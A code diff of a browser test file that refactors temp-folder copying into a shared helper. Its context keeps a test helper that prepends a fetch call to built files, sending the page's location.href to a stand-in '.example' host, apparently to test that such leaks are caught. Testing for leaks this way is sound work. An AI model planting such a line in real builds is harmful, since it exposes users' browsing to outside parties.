@@ -1,7 +1,7 @@
-import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect, it } from 'vitest';
+import { copyOf } from '../../scripts/browser/builds.ts';
 import { until } from '../../scripts/browser/open.ts';
 import { openCard, settledState } from '../../scripts/browser/page.ts';
 import { openView } from '../../scripts/browser/pictures.ts';
@@ -13,8 +13,7 @@ const size = { width: 420, height: 800 };
 
 /** A build whose background and engine each send where a reader is. */
 function buildThatTells(): string {
-  const build = mkdtempSync(join(tmpdir(), 'sidelight-'));
-  cpSync(buildFolder, build, { recursive: true });
+  const build = copyOf(buildFolder);
   const plant = (file: string, name: string) => {
     const code = `fetch('http://${name}.example/?' + encodeURIComponent(location.href)).catch(() => {});\n`;
     writeFileSync(join(build, file), code + readFileSync(join(build, file), 'utf8'));
